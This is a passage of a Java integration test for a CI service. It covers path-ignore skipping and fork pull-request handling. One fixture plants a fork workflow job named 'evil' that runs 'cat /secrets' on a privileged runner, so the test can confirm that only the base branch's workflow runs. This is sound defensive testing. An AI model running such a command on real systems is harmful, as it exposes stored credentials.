            push {
                paths_ignore "docs/**" "**/*.md"
            }
        }
        job "build" {
            script "echo building"
        }
        """);
    github().putCompare(SandboxStack.REPO, before, sha, List.of("docs/guide.md", "README.md"));
    ObjectNode push = (ObjectNode) json.readTree(RecordedWebhooks.payload("push.json"));
    push.put("after", sha).put("before", before);
    var commits = push.withArray("commits");
    for (int i = 1; i < 20; i++) {
      commits.add(
          commits.get(0).deepCopy()); // GitHub's cap: the payload no longer tells every file
    }

    assertThat(post("push", json.writeValueAsBytes(push))).isEqualTo(202);

    await().atMost(Duration.ofSeconds(20)).until(() -> runs(sha).size() == 1);
    assertThat(runs(sha).get(0).getString("conclusion")).isEqualTo("skipped");
    assertThat(runs(sha).get(0).getJsonObject("output").getString("summary"))
        .contains("paths_ignore");
    assertThat(github().count("repos/compare-commits-with-basehead")).isEqualTo(1);
    assertThat(published()).isEmpty();
  }

  @Test
  void forkPullRequestAllowedByPolicyStillRunsTheBaseWorkflowOnTheForksCommit() throws Exception {
    stack.close();
    stack =
        SandboxStack.start(
            vertx, ServiceHarness.isolatedEnv(Map.of("FORK_PR_POLICY", "always")), workDir);
    broker.trackAll(stack.config());
    await().atMost(Duration.ofSeconds(20)).until(stack.service()::isReady);
    String forkSha = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
    ObjectNode pr =
        (ObjectNode) json.readTree(RecordedWebhooks.payload("pull_request.synchronize.json"));
    ObjectNode pull = (ObjectNode) pr.get("pull_request");
    String baseSha = pull.at("/base/sha").asText();
    ((ObjectNode) pull.get("head")).put("sha", forkSha);
    ((ObjectNode) pull.at("/head/repo"))
        .put("full_name", "Forker/Hello-World")
        .put("clone_url", "https://github.com/Forker/Hello-World.git");
    pull.put("author_association", "NONE");
    github()
        .putFile(
            SandboxStack.REPO,
            forkSha,
            ".solstice/workflow.kdl",
            "job \"evil\" {\n    runs_on \"privileged\"\n    script \"cat /secrets\"\n}\n");
    github()
        .putFile(
            SandboxStack.REPO,
            baseSha,
            ".solstice/workflow.kdl",
            "job \"build\" {\n    script \"make\"\n}\n");

    assertThat(post("pull_request", json.writeValueAsBytes(pr))).isEqualTo(202);

    List<JobRequest> jobs = peekJobs(1);
    assertThat(jobs)
        .singleElement()
        .satisfies(
            j -> {
              assertThat(j.workflowJobId()).isEqualTo("build");
              assertThat(j.script()).containsExactly("make");
              assertThat(j.commitSha()).isEqualTo(forkSha);
              assertThat(j.repoUrl()).isEqualTo("https://github.com/Forker/Hello-World.git");
            });
    assertThat(runs(forkSha))
        .extracting(r -> r.getString("name"))
        .containsExactly("Solstice CI / build");
  }
}
